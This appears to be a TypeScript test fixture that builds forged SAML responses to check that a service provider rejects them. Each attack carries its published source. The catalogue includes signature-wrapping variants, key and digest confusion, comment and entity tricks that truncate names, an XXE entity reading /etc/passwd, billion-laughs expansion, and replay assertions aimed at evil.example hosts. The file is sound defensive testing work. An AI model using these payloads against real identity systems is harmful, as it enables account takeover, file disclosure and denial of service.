/** Published attacks on service providers: what is posted to them as the answer of an identity provider. */
import { randomUUID } from 'node:crypto';
import type { SamlAnswer, SamlKey } from '@keyward/core/ports';
import {
  ahead,
  assertionIn,
  attacker,
  behind,
  certificateInfo,
  digestOf,
  elementDigest,
  exclusive,
  forged,
  hmacSha1,
  idOf,
  insideOf,
  keyValueInfo,
  rsaSha1,
  sha1,
  signatureIn,
  signatureOf,
  signedBy,
  unsigned,
  victim,
  withAssertion,
  withId,
  without,
} from './forging.js';

/** What an attacker has: an account at the provider, and a key of its own. */
export interface Loot {
  /** An answer about the attacker that the provider has signed. */
  readonly answer: (more?: Partial<SamlAnswer>) => Promise<string>;
  /** The key of the provider, for what a provider could be brought to sign. */
  readonly provider: SamlKey;
  readonly own: SamlKey;
}

export interface Attack {
  readonly name: string;
  /** Where it was published. */
  readonly source: string;
  readonly forge: (loot: Loot) => Promise<string>;
  /** Who gets in, where the answer is sound in spite of it. */
  readonly as?: string;
}

const breakingSaml = 'Somorovsky et al., On Breaking SAML, 2012';
const divided = 'Ludwig, SAML Vulnerabilities Affecting Multiple Implementations, 2018';
const fragileLock = 'Fedotkin, The Fragile Lock, 2025';

type Edit = (xml: string, loot: Loot) => string;

const onAssertion =
  (edit: Edit): Attack['forge'] =>
  async (loot) =>
    edit(await loot.answer({ sign: 'assertion' }), loot);

const onResponse =
  (edit: Edit): Attack['forge'] =>
  async (loot) =>
    edit(await loot.answer({ sign: 'response' }), loot);

/** A forged assertion that has no signature. */
const forgedAssertion = (xml: string, id = '_forged'): string =>
  withId(forged(unsigned(assertionIn(xml))), id);

const wrapping: readonly Attack[] = [
  {
    name: 'XSW 1: a forged response, with the signed one in its signature',
    source: breakingSaml,
    forge: onResponse((xml) => {
      const inner = without(xml, signatureIn(xml));
      const outer = withId(forged(xml), '_forged');
      return insideOf(outer, 'ds:Signature', `<ds:Object>${inner}</ds:Object>`);
    }),
  },
  {
    name: 'XSW 2: a forged response, with the signed one before its signature',
    source: breakingSaml,
    forge: onResponse((xml) => {
      const inner = without(xml, signatureIn(xml));
      return ahead(withId(forged(xml), '_forged'), signatureIn(xml), inner);
    }),
  },
  {
    name: 'XSW 3: a forged assertion before the signed one',
    source: breakingSaml,
    forge: onAssertion((xml) => ahead(xml, assertionIn(xml), forgedAssertion(xml))),
  },
  {
    name: 'XSW 4: the signed assertion within a forged one',
    source: breakingSaml,
    forge: onAssertion((xml) =>
      withAssertion(xml, insideOf(forgedAssertion(xml), 'saml:Assertion', assertionIn(xml))),
    ),
  },
  {
    name: 'XSW 5: a forged assertion with the signature, the signed one behind it',
    source: breakingSaml,
    forge: onAssertion((xml) => {
      const signed = assertionIn(xml);
      return withAssertion(xml, withId(forged(signed), '_forged') + unsigned(signed));
    }),
  },
  {
    name: 'XSW 6: a forged assertion with the signature, the signed one in that',
    source: breakingSaml,
    forge: onAssertion((xml) => {
      const signed = assertionIn(xml);
      const outer = withId(forged(signed), '_forged');
      return withAssertion(xml, insideOf(outer, 'ds:Signature', unsigned(signed)));
    }),
  },
  {
    name: 'XSW 7: a forged assertion of the same id among the extensions',
    source: breakingSaml,
    forge: onAssertion((xml) => {
      const copy = forgedAssertion(xml, idOf(assertionIn(xml)));
      return ahead(xml, '<samlp:Status>', `<samlp:Extensions>${copy}</samlp:Extensions>`);
    }),
  },
  {
    name: 'XSW 8: a forged assertion, the signed one of the same id in an object of its signature',
    source: breakingSaml,
    forge: onAssertion((xml) => {
      const signed = assertionIn(xml);
      const object = `<ds:Object>${unsigned(signed)}</ds:Object>`;
      return withAssertion(xml, insideOf(forged(signed), 'ds:Signature', object));
    }),
  },
  {
    name: 'a second assertion, which nobody signed, behind the signed one',
    source: 'CVE-2022-41912 (crewjam/saml), CVE-2021-28091 (lasso)',
    forge: onAssertion((xml) => behind(xml, assertionIn(xml), forgedAssertion(xml))),
  },
  {
    name: 'two assertions of one id, the signed one among the extensions',
    source: 'CVE-2016-5697 (ruby-saml)',
    forge: onAssertion((xml) => {
      const signed = assertionIn(xml);
      const extensions = `<samlp:Extensions>${signed}</samlp:Extensions>`;
      return ahead(withAssertion(xml, unsigned(forged(signed))), '<samlp:Status>', extensions);
    }),
  },
  {
    name: 'the signed assertion in the detail of the status',
    source: 'CVE-2025-47949 (samlify)',
    forge: onAssertion((xml) =>
      insideOf(
        withAssertion(xml, forgedAssertion(xml)),
        'samlp:Status',
        `<samlp:StatusDetail>${assertionIn(xml)}</samlp:StatusDetail>`,
      ),
    ),
  },
  {
    name: 'the signature at the root, of the assertion alone',
    source: 'CVE-2024-8698 (Keycloak)',
    forge: onAssertion((xml) => {
      const signature = signatureIn(xml);
      const signed = assertionIn(xml);
      const moved = withAssertion(xml, forgedAssertion(xml) + unsigned(signed));
      return signedBy(moved, signature);
    }),
  },
  {
    name: 'a second root',
    source: 'CVE-2022-39299 (passport-saml), CVE-2022-39353 (xmldom)',
    forge: onAssertion((xml) => withAssertion(xml, forgedAssertion(xml)) + xml),
  },
];

const digests: readonly Attack[] = [
  {
    name: 'a digest of the forged assertion among the extensions',
    source: 'CVE-2024-45409 (ruby-saml)',
    forge: onAssertion((xml) => {
      const digest = elementDigest(unsigned(forged(assertionIn(xml))));
      const element = `<ds:DigestValue xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${digest}</ds:DigestValue>`;
      const extensions = `<samlp:Extensions>${element}</samlp:Extensions>`;
      return ahead(forged(xml), '<samlp:Status>', extensions);
    }),
  },
  {
    name: 'a comment that divides the digest',
    source: 'CVE-2025-29775 (xml-crypto)',
    forge: onAssertion((xml) => {
      const digest = elementDigest(unsigned(forged(assertionIn(xml))));
      return forged(xml).replace('<ds:DigestValue>', `<ds:DigestValue><!--${digest}-->`);
    }),
  },
  {
    name: 'a second SignedInfo',
    source: 'CVE-2025-29774 (xml-crypto), CVE-2019-3465 (xmlseclibs)',
    forge: onAssertion((xml, { own }) => {
      const signed = forged(assertionIn(xml));
      const digest = elementDigest(unsigned(signed));
      const [info] = /<ds:SignedInfo.*<\/ds:SignedInfo>/s.exec(
        signatureOf({ id: idOf(signed), digest }, own),
      )!;
      return ahead(withAssertion(xml, signed), '<ds:SignedInfo>', info);
    }),
  },
  {
    name: 'a digest of nothing, as a failed canonicalization leaves it',
    source: `CVE-2025-66568 (ruby-saml); ${fragileLock}`,
    forge: onAssertion((xml, { provider }) => {
      const assertion = forgedAssertion(xml).replace('<saml:Subject', '<saml:Subject xmlns:x="1"');
      const signature = signatureOf({ id: '_forged', digest: digestOf('') }, provider);
      return withAssertion(xml, signedBy(assertion, signature));
    }),
  },
  {
    name: 'no reference at all',
    source: 'RFC 3275 §4.3',
    forge: onAssertion((xml, { provider }) => {
      const signing = { id: '_forged', digest: '', references: 0 };
      return withAssertion(xml, signedBy(forgedAssertion(xml), signatureOf(signing, provider)));
    }),
  },
  {
    name: 'a reference to another document',
    source: 'W3C, XML Signature Best Practices, 2013',
    forge: onAssertion((xml, { provider }) => {
      const signature = signatureOf({ id: '_x', digest: digestOf('x') }, provider, {
        edit: (info) => info.replace('URI="#_x"', 'URI="https://evil.example/x"'),
      });
      return withAssertion(xml, signedBy(forgedAssertion(xml), signature));
    }),
  },
  {
    name: 'a reference that is an expression',
    source: 'CVE-2015-20108 (ruby-saml)',
    forge: onAssertion((xml) => forged(xml).replace(/URI="#[^"]*"/, `URI="#x' or '1'='1"`)),
  },
  {
    name: 'an attribute of an id in a namespace, beside the id',
    source: fragileLock,
    forge: onAssertion((xml) => {
      const id = idOf(assertionIn(xml));
      const copy = forgedAssertion(xml).replace(' ID=', ` samlp:ID="${id}" xml:id="${id}" ID=`);
      return ahead(xml, assertionIn(xml), copy);
    }),
  },
  {
    name: 'a transform that takes the name away before the digest',
    source: 'Hill, Command Injection in XML Signatures and Encryption, 2007',
    forge: onAssertion((xml, { provider }) => {
      const transforms = ['http://www.w3.org/TR/1999/REC-xpath-19991116', exclusive];
      const signing = { id: '_forged', digest: digestOf(''), transforms };
      return withAssertion(xml, signedBy(forgedAssertion(xml), signatureOf(signing, provider)));
    }),
  },
  {
    name: 'a transform by XSLT',
    source: 'CVE-2022-47966 (ManageEngine)',
    forge: onAssertion((xml, { provider }) => {
      const transforms = ['http://www.w3.org/TR/1999/REC-xslt-19991116', exclusive];
      const signing = { id: '_forged', digest: digestOf(''), transforms };
      return withAssertion(xml, signedBy(forgedAssertion(xml), signatureOf(signing, provider)));
    }),
  },
];

const keys: readonly Attack[] = [
  {
    name: 'no signature',
    source: `${breakingSaml}; CVE-2020-2021 (PAN-OS)`,
    forge: onAssertion((xml) => unsigned(forged(xml))),
  },
  {
    name: 'a key of the attacker, with its certificate',
    source: 'CVE-2024-32962 (xml-crypto); Mainka et al., Your Software at My Service, 2014',
    forge: onAssertion((xml, { own }) => signedWith(xml, own, certificateInfo(own))),
  },
  {
    name: 'a key of the attacker as a bare value',
    source: 'CVE-2021-21239 (pysaml2)',
    forge: onAssertion((xml, { own }) => signedWith(xml, own, keyValueInfo(own))),
  },
  {
    name: 'the public key as the secret of an HMAC',
    source: 'GHSA-c27r-x354-4m68 (xml-crypto)',
    forge: onAssertion((xml, { provider }) => signedWith(xml, provider, '', { method: hmacSha1 })),
  },
  {
    name: 'a signature by SHA-1',
    source: 'Stevens et al., The First Collision for Full SHA-1, 2017',
    forge: onAssertion((xml, { provider }) => signedWith(xml, provider, '', { method: rsaSha1 })),
  },
  {
    name: 'a digest by SHA-1',
    source: 'Stevens et al., The First Collision for Full SHA-1, 2017',
    forge: onAssertion((xml, { provider }) =>
      signedWith(xml, provider, '', { digestMethod: sha1 }),
    ),
  },
  {
    name: 'a method that nobody knows, so that the check fails in its own way',
    source: 'CVE-2018-7711 (simplesamlphp/saml2)',
    forge: onAssertion((xml, { own }) =>
      signedWith(xml, own, '', { method: 'http://www.w3.org/2000/09/xmldsig#none' }),
    ),
  },
  {
    name: 'an empty signature value',
    source: 'CVE-2016-9955 (SimpleSAMLphp)',
    forge: onAssertion((xml) =>
      forged(xml).replace(/<ds:SignatureValue>[^<]*/, '<ds:SignatureValue>'),
    ),
  },
  {
    name: 'an encrypted assertion that nobody signed',
    source: 'CVE-2024-4985, CVE-2024-9487 (GitHub Enterprise Server)',
    forge: async ({ answer, own }) =>
      unsigned(await answer({ sign: 'response', encryptionCertificate: own.certificate })),
  },
];

/** A sound signature of a forged assertion, but for what is asked. */
const signedWith = (
  xml: string,
  key: SamlKey,
  keyInfo: string,
  more: { readonly method?: string; readonly digestMethod?: string } = {},
): string => {
  const assertion = forgedAssertion(xml);
  const digest = elementDigest(assertion, more.digestMethod === sha1 ? 'sha1' : 'sha256');
  const signature = signatureOf({ id: '_forged', digest, ...more }, key, { keyInfo });
  return withAssertion(xml, signedBy(assertion, signature));
};

/** `gracemallory` is the account of the attacker, and `grace` the name before the cut. */
const cut = `${victim}${attacker}`;

const dividedBy =
  (divider: string): Attack['forge'] =>
  async ({ answer }) => {
    const xml = await answer({ sign: 'assertion' });
    return xml.replaceAll(
      `>${attacker}<`,
      `>${attacker.slice(0, 4)}${divider}${attacker.slice(4)}<`,
    );
  };

const parsers: readonly Attack[] = [
  {
    name: 'a comment that cuts the name short',
    source: 'CVE-2017-11427, CVE-2017-11428, CVE-2018-0489 (python-saml, ruby-saml, Shibboleth)',
    forge: async ({ answer }) => {
      const xml = await answer({ sign: 'assertion', statement: named(cut) });
      return xml.replace(`>${cut}<`, `>${victim}<!---->${attacker}<`);
    },
    as: cut,
  },
  {
    name: 'an instruction that divides the name',
    source: divided,
    forge: dividedBy('<?x y?>'),
  },
  {
    name: 'an element within the name',
    source: divided,
    forge: dividedBy('<x/>'),
  },
  {
    name: 'an entity for the name',
    source: 'CVE-2018-0486 (Shibboleth XMLTooling), CVE-2025-23369 (GitHub Enterprise Server)',
    forge: onAssertion(
      (xml) => `<!DOCTYPE x [<!ENTITY e "${victim}">]>${xml.replace(`>${attacker}<`, '>&e;<')}`,
    ),
  },
  {
    name: 'an entity that reads a file',
    source: 'CVE-2016-10127 (pysaml2)',
    forge: onAssertion(
      (xml) =>
        `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${xml.replace(`>${attacker}<`, '>&e;<')}`,
    ),
  },
  {
    name: 'a document type at another host',
    source: 'CVE-2013-6440 (OpenSAML)',
    forge: onAssertion((xml) => `<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">${xml}`),
  },
  {
    name: 'entities that grow',
    source: 'CVE-2003-1564 (libxml2)',
    forge: onAssertion((xml) => {
      const letters = [...'abcdefghi'];
      const entities = letters.map((letter, at) => {
        const before = at === 0 ? 'lol' : `&${letters[at - 1]!};`.repeat(10);
        return `<!ENTITY ${letter} "${before}">`;
      });
      return `<!DOCTYPE x [${entities.join('')}]>${xml.replace(`>${attacker}<`, '>&i;<')}`;
    }),
  },
  {
    name: 'a document type that one parser takes for a comment',
    source: 'CVE-2025-25291 (ruby-saml)',
    forge: onAssertion((xml) => {
      const hidden = withAssertion(xml, forgedAssertion(xml));
      return `<!DOCTYPE x [<!ENTITY a '"><!--'>]>${hidden}<!--"'>]-->${xml}`;
    }),
  },
  {
    name: 'a namespace that one parser reads otherwise',
    source: 'CVE-2025-25292, CVE-2025-66567 (ruby-saml)',
    forge: onAssertion((xml) => {
      const other = xml.replace(
        'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"',
        'xmlns:ds="urn:x"',
      );
      return ahead(other, assertionIn(other), forgedAssertion(xml));
    }),
  },
  {
    name: 'a prefix that is bound anew',
    source: 'CVE-2020-29509 (encoding/xml of Go), CVE-2020-27846 (crewjam/saml)',
    forge: onAssertion((xml) =>
      ahead(
        xml,
        assertionIn(xml),
        forgedAssertion(xml).replaceAll('saml:', 'x:').replace('xmlns:saml=', 'xmlns:x='),
      ),
    ),
  },
  {
    name: 'elements thousands deep',
    source: 'CVE-2003-1564 (libxml2); OWASP, XML Security Cheat Sheet',
    forge: onAssertion((xml) =>
      behind(xml, '</samlp:Status>', '<x>'.repeat(5000) + '</x>'.repeat(5000)),
    ),
  },
  {
    name: 'letters of another encoding',
    source: 'OWASP, XML Security Cheat Sheet',
    forge: onAssertion((xml) => `<?xml version="1.0" encoding="UTF-7"?>${forged(xml)}`),
  },
];

export const named = (value: string): SamlAnswer['statement'] => ({
  id: `_${randomUUID()}`,
  nameId: { value, format: 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent' },
  authenticatedAt: new Date(),
  sessionIndex: '_session',
  context: 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport',
  notOnOrAfter: new Date(Date.now() + 300_000),
  attributes: [],
});

const theft = 'Armando et al., Formal Analysis of SAML 2.0 Web Browser Single Sign-On, 2008';
const elsewhere = 'https://evil.example/acs';

/** Assertions about the victim that are sound at another place or another time. */
const stolen =
  (more: Partial<SamlAnswer>): Attack['forge'] =>
  async ({ answer }) =>
    answer({ sign: 'both', statement: named(victim), ...more });

const stolenAnd =
  (edit: (xml: string) => string): Attack['forge'] =>
  async ({ answer, provider }) => {
    const xml = edit(await answer({ sign: 'assertion', statement: named(victim) }));
    const assertion = unsigned(assertionIn(xml));
    const signature = signatureOf(
      { id: idOf(assertion), digest: elementDigest(assertion) },
      provider,
    );
    return withAssertion(xml, signedBy(assertion, signature));
  };

const theftOf: readonly Attack[] = [
  {
    name: 'an assertion for another service provider',
    source: theft,
    forge: stolen({ audience: 'https://evil.example/sp' }),
  },
  {
    name: 'an assertion for another address',
    source: theft,
    forge: stolen({ destination: elsewhere }),
  },
  {
    name: 'an assertion for another address, in an envelope for ours',
    source: 'Mainka et al., Your Software at My Service, 2014',
    forge: stolenAnd((xml) => xml.replace(/ Recipient="[^"]*"/, ` Recipient="${elsewhere}"`)),
  },
  {
    name: 'an assertion that says no audience',
    source: theft,
    forge: stolenAnd((xml) =>
      xml.replace(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/s, ''),
    ),
  },
  {
    name: 'an assertion that anybody may not carry',
    source: 'SAML Profiles §4.1.4.2',
    forge: stolenAnd((xml) => xml.replace('cm:bearer', 'cm:holder-of-key')),
  },
  {
    name: 'an assertion to another request',
    source: 'Barth et al., Robust Defenses for Cross-Site Request Forgery, 2008',
    forge: stolen({ inResponseTo: '_another' }),
  },
  {
    name: 'an assertion that nobody asked for',
    source: 'Barth et al., Robust Defenses for Cross-Site Request Forgery, 2008',
    forge: stolen({ inResponseTo: undefined }),
  },
  {
    name: 'an assertion of yesterday',
    source: 'Mainka et al., Your Software at My Service, 2014',
    forge: stolen({
      statement: { ...named(victim)!, notOnOrAfter: new Date(Date.now() - 86_400_000) },
    }),
  },
  {
    name: 'an assertion without an end',
    source: 'Mainka et al., Your Software at My Service, 2014',
    forge: stolenAnd((xml) => xml.replaceAll(/ NotOnOrAfter="[^"]*"/g, '')),
  },
  {
    name: 'an assertion of tomorrow',
    source: 'SAML Core §2.5.1.2',
    forge: stolen({ issuedAt: new Date(Date.now() + 86_400_000) }),
  },
  {
    name: 'a time that takes long to read',
    source: 'CVE-2018-6519 (simplesamlphp/saml2)',
    forge: stolenAnd((xml) =>
      xml.replace(/ NotBefore="[^"]*"/, ` NotBefore="2026-01-01T00:00:00.${'0'.repeat(20_000)}"`),
    ),
  },
  {
    name: 'an assertion that another provider issued',
    source: 'Mainka et al., Your Software at My Service, 2014',
    forge: stolen({ issuer: 'https://evil.example/idp' }),
  },
  {
    name: 'two subjects in one assertion',
    source: 'SAML Core §2.3.3',
    forge: stolenAnd((xml) =>
      behind(xml, '</saml:Subject>', /<saml:Subject>.*<\/saml:Subject>/s.exec(xml)![0]),
    ),
  },
  {
    name: 'an answer that refuses, with an assertion in it',
    source: 'SAML Core §3.2.2',
    forge: stolen({ status: ['Responder', 'AuthnFailed'] }),
  },
];

/** What the tools of the attacks make without an attack, so that they are refused for what they are. */
export const soundAnswers: Readonly<Record<string, Attack['forge']>> = {
  'signed as a response': onResponse((xml) => xml),
  'signed as an assertion': onAssertion((xml) => xml),
  'about another person, by the key of the provider': stolen({}),
  'signed again by the key of the provider': stolenAnd((xml) => xml),
  'made and signed by the key of the provider': onAssertion((xml, { provider, own }) =>
    signedWith(xml, provider, certificateInfo(own)),
  ),
};

export const attacksByResponse: readonly Attack[] = [
  ...wrapping,
  ...digests,
  ...keys,
  ...parsers,
  ...theftOf,
];
